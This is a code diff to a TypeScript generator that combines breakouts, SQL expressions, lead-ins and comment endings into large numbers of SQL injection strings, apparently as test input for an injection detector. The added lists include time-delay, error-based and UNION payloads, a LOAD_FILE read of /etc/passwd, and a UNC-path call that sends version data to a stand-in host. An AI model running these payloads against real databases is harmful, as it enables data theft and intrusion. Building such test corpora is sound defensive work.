@@ -88,6 +88,7 @@ const AFTER_VALUE: string[] = [
   '+BENCHMARK(5000000,MD5(1))', '=SLEEP(5)', ' IN (SELECT 1)', ' LIKE {q}%', ' RLIKE (SELECT 1)', ' IS NULL', ' BETWEEN 1 AND 2',
   '||PG_SLEEP(5)', '||(SELECT 1)', '||(SELECT USER FROM dual)||', '+CHAR(0x41)+', '+(SELECT TOP 1 name FROM sysobjects)+',
   // misc dialect specific
+  'OR 1=x', 'OR 1=id', 'AND (name = {q}x', 'GROUP BY CONCAT(VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)', '(SELECT LOAD_FILE({q}x{q}))',
   'AND 1=(SELECT 1 FROM sqlite_master)', 'AND (SELECT 1 FROM pg_user LIMIT 1)=1', 'AND @@version_comment LIKE {q}%',
   'AND (SELECT 1 FROM mysql.user LIMIT 1)=1', 'AND 1=(SELECT COUNT(*) FROM msysobjects)', 'AND 1=1 AND 2=2',
   'AND 1=(SELECT 1 FROM DUAL WHERE 1=1)', 'AND 1=ROUND(1)', 'AND 0x31=0x31', 'AND b{q}1{q}=b{q}1', 'AND N{q}a{q}=N{q}a', 'AND x{q}41{q}=x{q}41',
@@ -111,14 +112,31 @@ const WHOLE: string[] = [
   '1 || 1=1', '1 && 1=1', '1 XOR 1', '1 DIV 0', '1 OR TRUE', 'TRUE OR TRUE', 'NULL OR 1', '@a:=1', '@@version LIKE {q}5%',
 ];
 
+/** SQL expressions an attacker evaluates; combined with the lead-ins below. */
+const EXPRS: string[] = [
+  'SLEEP(5)', 'SLEEP(5 DIV 1)', 'SLEEP(10/2)', 'SLEEP({q}5{q})', 'BENCHMARK(1000000,MD5(1))', 'PG_SLEEP(5)', 'IF(1>1,{q}a{q},{q}b{q})',
+  'IIF(1>1,{q}a{q},{q}b{q})', 'CHAR(113)', 'CHAR(113)+CHAR(118)', 'CHR(113)||CHR(118)', 'CONCAT(0x71,0x72)', 'ELT(1,1)',
+  'VERSION()', '@@version', 'USER()', 'DATABASE()', 'CURRENT_USER', 'LOAD_FILE({q}/etc/passwd{q})',
+  'LOAD_FILE(CONCAT({q}\\\\{q},VERSION(),{q}.x.example\\a{q}))', 'EXTRACTVALUE(1,CONCAT(0x7e,USER()))',
+  'COUNT(*)', 'MID(VERSION(),1,1)', 'SUBSTRING(USER(),1,1)', 'ASCII(SUBSTRING(USER(),1,1))', 'CAST(1 AS INT)',
+  'CONVERT(INT,(SELECT CHAR(113)))', '(SELECT 1)', '(SELECT(SLEEP(5)))', '(SELECT 1 FROM dual)', '(SELECT COUNT(*) FROM users)',
+  '(SELECT CONCAT(0x71,(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))))', '(SELECT 4440 FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
+  '(SELECT UPPER(XMLTYPE(CHR(60)||CHR(58)||CHR(113))) FROM dual)', '(SELECT {q}a{q}||(SELECT (CASE WHEN 1=1 THEN 1 END)))',
+  'UTL_INADDR.GET_HOST_NAME({q}x{q})', 'DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)', 'RANDOMBLOB(1000000000)', 'LO_GET(16400)',
+  'XMLTYPE({q}<x/>{q})', 'EXTRACTVALUE(XMLTYPE({q}<x/>{q}),{q}/l{q})',
+];
+const EXPR_LEADS = ['', 'SELECT ', 'AND ', 'OR ', '=', '+', '||', ',', 'UNION SELECT ', '; SELECT ', ' (SELECT ', 'IF EXISTS (SELECT 1) SELECT '];
+
 /** Endings after the attack body. */
 const ENDINGS_ANY = ['', ' --', ' -- -', '--', '#', ' #', '/*', ';', ';--', ' ;--', ' -- x'];
 const ENDINGS_QUOTED = [' AND {q}a{q}={q}a', ' OR {q}a{q}={q}a', ' AND {q}1', ' {q}', '{q}', ' OR {q}'];
 
 /** Breakouts: what closes the original literal (and maybe parentheses) before the attack. */
-const BREAK_NUMERIC = ['1', '-1', '0', '1)', '1))', '999999', '1.5', '0x1', 'NULL', '1 ', '(1)'];
-const BREAK_IDENT = ['id', 'name', 'x', 'a.b', '`id`', '[id]', 'name)'];
-const BREAK_QUOTED = ['x{q}', '1{q}', '{q}', 'admin{q}', 'x{q})', 'x{q}))', '%{q}', 'a b{q}', 'x{q} ', '1{q})'];
+const BREAK_NUMERIC = ['1', '-1', '0', '1)', '1))', '1)))', '999999', '1.5', '0x1', 'NULL', '1 ', '(1)', '2020-03-01'];
+const BREAK_IDENT = ['id', 'name', 'x', 'a.b', '`id`', '[id]', 'name)', 'x))'];
+const BREAK_QUOTED = ['x{q}', '1{q}', '{q}', 'admin{q}', 'x{q})', 'x{q}))', '%{q}', 'a b{q}', 'x{q} ', '1{q})', 'x{q})))',
+  // INSERT ... VALUES ('x', ...) contexts: close the literal, fill the row, close it
+  'x{q}, 1)', 'x{q}, {q}a{q})', 'x{q},1,2)', 'x{q}, NULL)'];
 
 function sub(s: string, q: string): string {
   const other = q === '"' ? "'" : '"';
@@ -142,6 +160,10 @@ function spacings(p: string): string[] {
     tight += ch;
   }
   out.push(tight);
+  // a space between a SQL-only function name and its parenthesis
+  out.push(p.replace(/([A-Za-z]+_[A-Za-z_]+|EXTRACTVALUE|UPDATEXML|IFNULL|NULLIF|COALESCE|SUBSTRING|CONCAT|ASCII|UNHEX|MD5|SHA1)\(/gi, '$1 ('));
+  // parentheses instead of spaces: SELECT(1)FROM(x)
+  out.push(p.replace(/ ([A-Za-z@(][^ ]*)/g, '($1)'));
   return out;
 }
 
@@ -177,6 +199,28 @@ export function generateTemplateAttacks(): GeneratedAttack[] {
     for (const body of AFTER_VALUE) {
       for (const end of ENDINGS_ANY) {
         for (const v of spacings(join(brk, body) + end)) push(sub(v, "'"), 0);
+      }
+    }
+  }
+  const exprBodies: string[] = [];
+  for (const lead of EXPR_LEADS) for (const e of EXPRS) exprBodies.push(lead + e + (lead === ' (SELECT ' ? ')' : ''));
+  for (const [quote, q] of [
+    [0x27, "'"],
+    [0x22, '"'],
+  ] as const) {
+    for (const brk of ['x{q}', '{q}', 'x{q})']) {
+      for (const body of exprBodies) {
+        for (const end of ['', ' --', '#', ' AND {q}1', '||{q}', '+{q}']) {
+          for (const v of spacings(join(brk, body) + end)) push(sub(v, q), quote);
+        }
+      }
+    }
+  }
+  for (const brk of ['', '1', '1)', 'x']) {
+    for (const body of exprBodies) {
+      if (brk === '' && /^[=+|,]/.test(body)) continue;
+      for (const end of ['', ' --', '#', ';--']) {
+        for (const v of spacings(brk === '' ? body + end : join(brk, body) + end)) push(sub(v, "'"), 0);
       }
     }
   }
